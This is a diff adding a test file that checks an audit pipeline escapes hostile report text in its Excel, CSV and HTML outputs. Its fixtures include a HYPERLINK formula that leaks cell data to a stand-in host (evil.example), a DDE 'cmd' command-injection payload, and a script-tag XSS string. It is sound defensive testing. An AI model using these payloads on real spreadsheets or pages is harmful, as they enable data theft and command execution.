@@ -1,0 +1,132 @@
+import { describe, expect, it, beforeAll } from 'vitest';
+import { mkdtempSync, readFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import ExcelJS from 'exceljs';
+import { buildAudit, type Audit } from '../../src/audit/index.js';
+import { parseCsv } from '../../src/io/csv.js';
+import { writeAuditOutputs } from '../../src/pipeline/audit.js';
+import { finding, report, statement, table } from './helpers.js';
+
+// Report fields a hostile or careless page could carry into the outputs.
+const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")';
+const PLUS = '+1';
+const AT = '@SUM(1,2)';
+const MINUS_CMD = '-2+3+cmd|" /C calc"!A0';
+const TAB = '\t=1+1';
+const SCRIPT = '<script>alert("x")</script>某局';
+
+function hostileAudit(): Audit {
+  const bad = report({
+    id: 'hostile',
+    agency: HYPERLINK,
+    title: SCRIPT,
+    year: 2020,
+    tables: {
+      proactive: null,
+      applications: table({ 'new_received.total': 5, 'carried_over.total': 0, 'handled_total.total': 4, 'carried_forward.total': 0 }),
+      review_litigation: null,
+    },
+    findings: [finding('applications.balance', ['applications.new_received.total', 'applications.handled_total.total'], MINUS_CMD)],
+  });
+  const ok = report({ id: 'fine', agency: '某县林业局', year: 2020 });
+  const st = [
+    statement('hostile', 'problem', PLUS, [['platform', 0.9]], { vague: true }),
+    statement('hostile', 'problem', AT, [['timeliness', 0.8]]),
+    statement('hostile', 'problem', TAB, [['staffing', 0.8]]),
+    statement('fine', 'problem', SCRIPT, [['staffing', 0.9]]),
+    statement('fine', 'measure', '加强培训', [['staffing', 0.9]]),
+  ];
+  return buildAudit([bad, ok], st);
+}
+
+describe('audit outputs', () => {
+  let dir: string;
+  let audit: Audit;
+  beforeAll(async () => {
+    dir = mkdtempSync(join(tmpdir(), 'ogi-audit-out-'));
+    audit = hostileAudit();
+    await writeAuditOutputs(audit, dir);
+  });
+
+  it('audit.xlsx: a sheet per view, header frozen, autofilter on, formula-looking text read back as strings', async () => {
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.readFile(join(dir, 'audit.xlsx'));
+    const names = wb.worksheets.map((w) => w.name);
+    expect(names).toEqual(['机构排名', '分组', '报告得分', '问题清单', '扣分明细', '共性问题', '扣分标准']);
+    for (const ws of wb.worksheets) {
+      expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
+      expect(ws.autoFilter).toBeTruthy();
+    }
+    const issues = wb.getWorksheet('问题清单')!;
+    const header = (issues.getRow(1).values as unknown[]).slice(1);
+    expect(header).toContain('机构');
+    const agencyCol = header.indexOf('机构') + 1;
+    const quoteCol = header.indexOf('原文') + 1;
+    const messageCol = header.indexOf('说明') + 1;
+    const seen: string[] = [];
+    let formulas = 0;
+    issues.eachRow((row, n) => {
+      if (n === 1) return;
+      for (const col of [agencyCol, quoteCol, messageCol]) {
+        const c = row.getCell(col);
+        if (c.formula) formulas++;
+        if (typeof c.value === 'string') seen.push(c.value);
+        else if (c.value !== null) expect(c.type).toBe(ExcelJS.ValueType.String);
+      }
+    });
+    expect(formulas).toBe(0);
+    expect(seen).toContain(HYPERLINK);
+    expect(seen).toContain(PLUS);
+    expect(seen).toContain(AT);
+    expect(seen).toContain(TAB);
+    expect(seen).toContain(MINUS_CMD);
+    // Every cell of every sheet: no formula anywhere, the hyperlink text stays a string cell.
+    for (const ws of wb.worksheets) {
+      ws.eachRow((row) =>
+        row.eachCell((c) => {
+          expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
+          expect(c.type).not.toBe(ExcelJS.ValueType.Hyperlink);
+        }),
+      );
+    }
+    const ranking = wb.getWorksheet('机构排名')!;
+    const agencies = ranking.getColumn(2).values.filter((v) => typeof v === 'string');
+    expect(agencies).toContain(HYPERLINK);
+    // Numbers stay numbers (sortable).
+    expect(typeof ranking.getRow(2).getCell(9).value).toBe('number');
+  });
+
+  it('audit.csv: UTF-8 with BOM, every report listed, formula-looking text prefixed', () => {
+    const text = readFileSync(join(dir, 'audit.csv'), 'utf8');
+    expect(text.startsWith('\uFEFF')).toBe(true);
+    const [header, ...rows] = parseCsv(text);
+    expect(header.slice(0, 3)).toEqual(['report_id', 'agency', 'year']);
+    const ids = new Set(rows.map((r) => r[0]));
+    expect(ids).toEqual(new Set(['hostile', 'fine']));
+    const agencies = rows.map((r) => r[header.indexOf('agency')]);
+    expect(agencies).toContain(`'${HYPERLINK}`);
+    expect(agencies.some((a) => a.startsWith('='))).toBe(false);
+    const quotes = rows.map((r) => r[header.indexOf('quote')]);
+    expect(quotes).toContain(`'${AT}`);
+    expect(quotes).toContain(`'${TAB}`);
+    // A plain signed number is not a formula; src/io leaves it as printed.
+    expect(quotes).toContain(PLUS);
+  });
+
+  it('audit.html: Chinese, every finding with its cells or quote, report text escaped', () => {
+    const html = readFileSync(join(dir, 'audit.html'), 'utf8');
+    expect(html).toContain('<html lang="zh-CN">');
+    expect(html).toContain('机构排名');
+    expect(html).not.toContain('<script>alert');
+    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;某局');
+    // The failed balance check shows its cells with the printed numbers.
+    expect(html).toContain('表三（依申请公开）·一、本年新收·总计');
+    expect(html).toContain('applications.new_received.total');
+    // The vague statement is quoted.
+    expect(html).toContain('<q>+1</q>');
+    expect(html).toContain('<q>@SUM(1,2)</q>');
+    const hostile = audit.reports.find((r) => r.report_id === 'hostile')!;
+    for (const i of hostile.issues) expect(html).toContain(i.label);
+  });
+});
